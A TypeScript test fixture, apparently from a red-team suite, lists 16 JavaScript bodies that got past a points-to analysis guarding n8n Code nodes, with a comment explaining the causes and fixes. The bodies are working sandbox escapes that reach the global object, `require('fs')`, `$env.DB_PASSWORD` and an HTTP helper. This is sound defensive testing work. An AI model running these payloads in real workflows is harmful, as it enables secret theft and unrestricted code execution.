// Round 28 of the code-purity red team, 2026-12-03: black box against the points-to analysis after round 27's fixes
// (bound functions, V8's error stack accessor, boxing, runner-realm objects); 98 bodies tried, 76 obtained a capability,
// these 12 obtained one while the points-to analysis reported none (the shipped value flow reported all 12). Causes:
// forin-inherited-builtin-enumerable (8): for-in took its keys for the object's own, as if no built-in had an
// enumerable key, but the global object's n8n variables (require, helpers, $env, global) and Buffer.prototype's
// methods are enumerable, so `for (k in { __proto__: this }) out[k] = o[k]` copied them unseen;
// string-primitive-keys-empty (3): a string's keys (for-in, Object.keys) were none, so a read or a store with one did
// nothing; own-key-path-computed-literal-write (1): a path taken for unchanging (`h.o` in `for (k in h.o) h.o[k]`)
// ignored `h['o'] = f`. Fixed in forInKeys (syntax.ts: any string when a prototype may have an enumerable key),
// STRING_INDEX (heap.ts: a string's own key, read as every index) and Engine.writtenAtKey (every store at a known key
// after an object was made, whatever made it, unsettles a path through it). The last 4 are the third cause's other
// spellings, found while fixing it (a key in a constant, Object.assign, destructuring, a template).
import type { RoundEntry } from "./red-team-round.js";

export const ROUND28_BYPASSES: RoundEntry[] = [
  {
    id: "forin-create-this",
    code: "const o = Object.create(this); const out = {}; for (const k in o) out[k] = o[k]; return [{json: out}];",
    node24: true,
  },
  {
    id: "forin-proto-lit",
    code: "const o = { __proto__: this }; const out = {}; for (const k in o) out[k] = o[k]; return [{json: out}];",
    node24: true,
  },
  {
    id: "forin-proto-lit-g",
    code: "const o = { __proto__: this }; let g; for (const k in o) if (k === 'global') g = o[k]; return [{json: {g}}];",
    node24: true,
  },
  {
    id: "forin-proto-lit-req",
    code: "const o = { __proto__: this }; for (const k in o) if (k === 'require') o[k]('fs'); return [];",
    node24: true,
  },
  {
    id: "forin-proto-lit-env",
    code: "const o = { __proto__: this }; let s; for (const k in o) if (k === '$env') s = o[k].DB_PASSWORD; return [{json: {s}}];",
    node24: true,
  },
  {
    id: "forin-proto-lit-helpers",
    code: "const o = { __proto__: this }; for (const k in o) if (k === 'helpers') o[k].httpRequest({url:'http://x'}); return [];",
    node24: true,
  },
  {
    id: "forin-proto-a1",
    code: "const o = { a: 1, __proto__: this }; const out = {}; for (const k in o) out[k] = o[k]; return [{json: out}];",
    node24: true,
  },
  {
    id: "forin-str-store",
    code: "const out = {}; for (const k in 'ab') out[k] = this; return [{json: out}];",
    node24: true,
  },
  {
    id: "forin-str-var-fn",
    code: "let f = () => 1; const o = { 0: function(){ return this } }; for (const k in 'a') f = o[k]; return [{json: {g: f()}}];",
    node24: true,
  },
  {
    id: "keys-str-read",
    code: "const o = { 0: function(){ return this } }; let f; for (const k of Object.keys('a')) f = o[k]; return [{json: {g: f()}}];",
    node24: true,
  },
  {
    id: "forin-buffer-create",
    code: "const b = Object.create(Buffer.prototype); let r; for (const k in b) if (k === 'readUInt8') r = b[k].call({0: this, length: 1}, 0); return [{json:{g:r}}];",
    node24: true,
  },
  {
    id: "forin-path-swap",
    code: "const a = {constructor: 1}; const h = {o: a}; let F; for (const k in h.o) { h['o'] = function(){}; F = h.o[k]; } return [{json: {g: F('return this')()}}];",
    node24: true,
  },
  {
    id: "swap-const-key",
    code: "const a = {constructor: 1}; const h = {o: a}; const n = 'o'; let F; for (const k in h.o) { h[n] = function(){}; F = h.o[k]; } return [{json: {g: F('return this')()}}];",
  },
  {
    id: "swap-assign",
    code: "const a = {constructor: 1}; const h = {o: a}; let F; for (const k in h.o) { Object.assign(h, {o: function(){}}); F = h.o[k]; } return [{json: {g: F('return this')()}}];",
  },
  {
    id: "swap-destructure",
    code: "const a = {constructor: 1}; const h = {o: a}; let F; for (const k in h.o) { [h.o] = [function(){}]; F = h.o[k]; } return [{json: {g: F('return this')()}}];",
  },
  {
    id: "swap-template",
    code: "const a = {constructor: 1}; const h = {o: a}; let F; for (const k in h.o) { h[`o`] = function(){}; F = h.o[k]; } return [{json: {g: F('return this')()}}];",
  },
];
